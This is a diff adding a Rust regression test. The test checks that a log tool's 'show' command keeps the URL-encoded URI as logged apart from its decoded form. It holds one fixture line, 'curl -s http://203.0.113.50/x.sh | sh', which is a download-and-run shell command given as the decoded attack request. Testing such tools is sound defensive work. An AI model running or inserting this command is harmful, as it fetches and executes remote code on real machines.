@@ -399,3 +399,19 @@ fn regression_a_missing_input_printed_a_summary_of_zeros() {
         "{err}"
     );
 }
+
+#[test]
+fn regression_show_labelled_the_decoded_uri_as_the_logged_one() {
+    let text = ok(&["show", DOWNLOAD_RUN]);
+    let line = |label: &str| {
+        text.lines()
+            .find(|l| l.trim_start().starts_with(label))
+            .unwrap_or_else(|| panic!("no {label} in {text}"))
+            .to_owned()
+    };
+    assert!(line("uri ").contains("%2F"), "as logged: {text}");
+    assert!(
+        line("uri decoded").contains("curl -s http://203.0.113.50/x.sh | sh"),
+        "{text}"
+    );
+}
